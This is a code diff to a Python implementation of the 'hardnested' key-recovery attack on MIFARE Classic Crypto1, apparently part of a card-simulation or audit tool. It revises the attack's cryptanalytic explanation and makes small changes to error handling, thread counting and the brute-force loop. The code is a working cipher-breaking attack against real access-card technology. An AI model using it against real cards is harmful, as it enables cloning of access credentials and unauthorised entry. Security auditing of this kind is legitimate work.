@@ -11,12 +11,13 @@ halves (``cardsim.crypto1.Crypto1``). Each nonce gives, for byte k, the bit
   byte range over all 256 values whatever the state; the odd half meets the odd-numbered ones, the even half the
   even-numbered ones). Collecting nonces until every first byte has been seen makes Sum(a0) exact, and only
   (p, q) pairs that give it are kept.
-- Bit-flip properties: flipping bit j of the first encrypted byte flips the fed bit j alone. For j = 7, 6, 5, 4
-  that bit reaches the parity bit a0 only through the filter's first input (bit 0 of the half the filter reads,
-  at clocks j+1, j+3, ... up to 8), and whether the filter can feel that input depends only on 16 bits of one
-  half (odd for clocks 8 and 6, even for 7 and 5). So "some pair v, v ^ 1<<j gives different a0 bits" holds
-  exactly when the half can feel it at one of those clocks; with every first byte seen it is exact both ways
-  (checked against random states; for j < 4 the bit reaches a feedback tap and no single half decides it).
+- Bit-flip properties: flipping bit j of the first encrypted byte flips the fed bit j. For j = 7, 6, 5, 4,
+  whatever that changes before a0 is complete it changes through the filter's first input (bit 0 of the half
+  the filter reads, at clocks j+1, j+3, ... up to 8), and whether fc can feel that input depends only on 16 bits
+  of one half (odd for clocks 8 and 6, even for 7 and 5). When the half cannot feel it, no pair v, v ^ 1<<j
+  gives different a0 bits; when it can, some pair does (exact for j = 7 and 6 by counting, and found for every
+  one of thousands of random states checked for 5 and 4). For j < 4 the bit reaches a feedback tap and no single
+  half decides it.
 - What is left, odd x even, is brute-forced in C (``audit._hardnested``, both cores): a state survives when it
   explains every parity bit of the collected nonces; the survivor is checked by authenticating.
 
@@ -223,7 +224,9 @@ def hardnested_attack(
     start = time.monotonic()
     deadline = None if max_seconds is None else start + max_seconds
     if target[1] not in (0x60, 0x61) or not 0 <= target[0] < 64 or not 0 <= known[0] < 64:
-        raise AttackFailed(f"hardnested needs a block 0..63 and key type 60 or 61, not {target}")
+        raise AttackFailed(
+            f"hardnested needs blocks 0..63 and a target key type 60 or 61, not known block {known[0]}, target {target}"
+        )
     if known_key_bits is not None and (known_key_bits[1] & ~known_key_bits[0] or known_key_bits[0] >> 48):
         raise AttackFailed("known_key_bits: the value has bits outside the 48-bit mask")
     nonces = collect_nested_nonces(chip, uid, known, target, deadline, progress)
@@ -237,10 +240,11 @@ def hardnested_attack(
         f"2^{math.log2(space):.1f} states left of 2^{48 - (known_key_bits or (0, 0))[0].bit_count()}"
     )
     fed, targets = nonces.checks(uid)
-    threads = len(os.sched_getaffinity(0))
+    threads = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count() or 1
     done, rate, started = 0, 0.0, time.monotonic()
     for odd, even in pairs:
         step = max(1, min(len(odd), int((rate or 2e7) * CHUNK_SECONDS) // len(even)))
+        even_bytes = even.tobytes()
         for i in range(0, len(odd), step):
             if deadline is not None and time.monotonic() > deadline:
                 left = (space - done) / rate if rate else float("inf")
@@ -249,7 +253,7 @@ def hardnested_attack(
                     f"states at {rate / 1e6:.1f} M/s, ~{left:.0f} s more needed"
                 )
             chunk = odd[i : i + step]
-            for state in brute_force(chunk.tobytes(), even.tobytes(), fed, targets, threads):
+            for state in brute_force(chunk.tobytes(), even_bytes, fed, targets, threads):
                 key = int(Crypto1(state >> 24, state & MASK24).lfsr())
                 if try_key(FrameSlot(chip), target[0], key, target[1]):
                     progress(f"hardnested: key {key:012X} after {time.monotonic() - start:.1f} s")
